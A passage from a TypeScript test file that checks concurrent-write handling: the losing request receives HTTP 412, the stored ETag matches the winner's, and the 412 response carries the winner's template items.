      const loser = (await responses.find((response) => response.status === 412)!.json()) as any;
      const stored = await read();
      assert.equal(stored.etag, winner.headers.get('etag'));
      assert.deepEqual(loser.current.items, stored.items, 'the 412 carries the winner’s template');
    }
  });
});
